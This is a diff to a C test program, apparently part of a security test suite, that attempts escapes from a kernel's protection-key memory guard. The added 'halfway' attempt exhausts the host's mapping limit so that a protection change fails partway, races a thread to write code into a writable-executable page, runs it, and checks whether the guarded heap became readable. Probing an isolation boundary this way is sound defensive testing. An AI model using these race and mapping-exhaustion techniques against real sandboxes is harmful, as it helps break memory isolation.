@@ -1,5 +1,6 @@
-/* keys_more WHAT [NUMBER]: more attempts against a kernel whose memory is closed by protection keys (--kernel-guard=on), beside keys.c: those
- * that need the kernel's help, or its timing. The number is the offset of the gadget's first `syscall` in the image. */
+/* keys_more WHAT [NUMBER...]: more attempts against a kernel whose memory is closed by protection keys (--kernel-guard=on), beside keys.c: those
+ * that need the kernel's help, or its timing. Numbers are offsets of instructions of the image: for steps and guesses that of the gadget's first
+ * `syscall` (and for steps, if given, that of way_in_patched), for own_slot that of WRGSBASE; for turning and peeking, seconds. */
 #include "takeover.h"
 #include <pthread.h>
 #include <sched.h>
@@ -118,6 +119,7 @@ static void trampolines(void) {
 
 /* While a site is rewritten its page can be written to, by the kernel alone: not for calls of other threads. */
 static volatile int stop;
+static volatile unsigned generation, finished;
 static int evil;
 static unsigned char *target;
 static void *reads(void *none) {
@@ -151,7 +153,6 @@ static void rewriting(void) {
 /* Memory that is writable and executable: what calls write to it, at any moment, must be looked at before it runs. */
 static unsigned char *both;
 static int good;
-static volatile unsigned generation, finished;
 static void puts_code(int file) {
     for (int tries = 0; tries < 1000 && pread(file, both, sizeof WRPKRU, 0) != sizeof WRPKRU; tries++) {}
 }
@@ -211,6 +212,70 @@ static void turning(int seconds, int peeking) {
 /* The host allows so many mappings and no more: a change of code that it refuses halfway must not stay open. The site lies across pages that
  * are opened apart, 128 KiB being opened at once. */
 static void *waits(void *none) { return (pause(), none); }
+static unsigned char *single[16];
+static void fill_host(void) {
+    for (int i = 0; i < 16; i++) single[i] = mmap(AT + GIB + 2 * i * PAGE, PAGE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+    /* No two of these are one mapping of the host's. */
+    unsigned long count = 0;
+    unsigned char *room = mmap(NULL, 140000 * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+    for (; count < 70000; count++) {
+        if (mprotect(room + 2 * count * PAGE, PAGE, PROT_READ) != 0) break;
+    }
+    say("%lu mappings, then %s\n", count, strerror(errno));
+}
+/* A change of protection that the host refuses halfway: what can be written to must not become executable unseen. */
+static void *stores(void *none) {
+    (void)none;
+    for (volatile unsigned turn = 0; !stop; turn++) {
+        if (!generation) continue;
+        if (sigsetjmp(back, 0)) { generation = 0; continue; }
+        memset(target, 0xc3, sizeof WRPKRU);
+        finished = 1;
+        for (volatile unsigned wait = turn % 256 * 20; wait; wait--) {}
+        memcpy(target, WRPKRU, sizeof WRPKRU);
+        for (volatile unsigned wait = 0; wait < 3000; wait++) {}
+    }
+    return NULL;
+}
+static int can_write(unsigned char *at) {
+    if (sigsetjmp(back, 0)) return 0;
+    return (*(volatile unsigned char *)at = 0xc3, 1);
+}
+static void halfway(void) {
+    /* Two mappings of the host's that are one for the program, and are opened apart. */
+    unsigned char *first = AT + 28 * PAGE, *second = first + 4 * PAGE, *other = AT + 640 * PAGE;
+    for (int i = 0; i < 2; i++) {
+        unsigned char *at = i ? other : first;
+        if (mmap(at, 4 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) != at) exit(2);
+        memset(at, 0xc3, 4 * PAGE);
+        mprotect(at, 4 * PAGE, PROT_READ | PROT_EXEC);
+    }
+    if (mremap(other, 4 * PAGE, 4 * PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, second) != second) exit(2);
+    target = first + 3 * PAGE;
+    pthread_t thread;
+    pthread_create(&thread, NULL, stores, NULL);
+    fill_host();
+    for (int freed = 0; freed < 16 && !can_write(target); freed++) {
+        munmap(single[freed], PAGE);
+        if (mprotect(target, 2 * PAGE, PROT_READ | PROT_WRITE) == 0) { say("not refused\n"); return; }
+    }
+    int halves = can_write(target);
+    say("refused, and yet it can be written to: %d\n", halves);
+    if (!halves) return;
+    time_t end = time(NULL) + 8;
+    unsigned round = 0, ran = 0;
+    for (; time(NULL) < end; round++) {
+        int refused = mprotect(target, 2 * PAGE, PROT_READ | PROT_WRITE);
+        finished = 0, generation = 1;
+        while (refused && !finished && generation) {}
+        if (!sigsetjmp(back, 0)) ((void (*)(void))target)(), ran++;
+        if (can_read(heap)) { escaped("the heap can be read after a change of protection that the host refused, round %u", round); break; }
+    }
+    say("%u rounds, run in %u, writable at the end: %d\n", round, ran, can_write(target));
+    stop = 1;
+    pthread_join(thread, NULL);
+}
+
 static void limits(void) {
     enum { PAGES = 64, EDGE = 32 };
     static unsigned char code[PAGES * 4096];
@@ -233,15 +298,7 @@ static void limits(void) {
     pthread_t thread;
     pthread_create(&thread, NULL, waits, NULL);
     call(at + 2 * PAGE, 100);
-    unsigned char *single[16];
-    for (int i = 0; i < 16; i++) single[i] = mmap(AT + GIB + 2 * i * PAGE, PAGE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
-    /* No two of these are one mapping of the host's. */
-    unsigned long count = 0;
-    unsigned char *room = mmap(NULL, 140000 * PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
-    for (; count < 70000; count++) {
-        if (mprotect(room + 2 * count * PAGE, PAGE, PROT_READ) != 0) break;
-    }
-    say("%lu mappings, then %s\n", count, strerror(errno));
+    fill_host();
     for (int freed = 0; freed < 16; freed++) {
         call(edge - code + at - 2, 40);
         if (pread(evil, at + (EDGE - 1) * PAGE + 0x100, sizeof WRPKRU, 0) > 0) {
@@ -294,6 +351,7 @@ int main(int argc, char **argv) {
     else if (is(argv[1], "turning")) turning(number ? (int)number : 10, 0);
     else if (is(argv[1], "peeking")) turning(number ? (int)number : 10, 1);
     else if (is(argv[1], "limits")) limits();
+    else if (is(argv[1], "halfway")) halfway();
     else if (is(argv[1], "guesses")) guesses(base + number);
     else if (is(argv[1], "own_slot")) own_slot(base + number);
     else return 2;
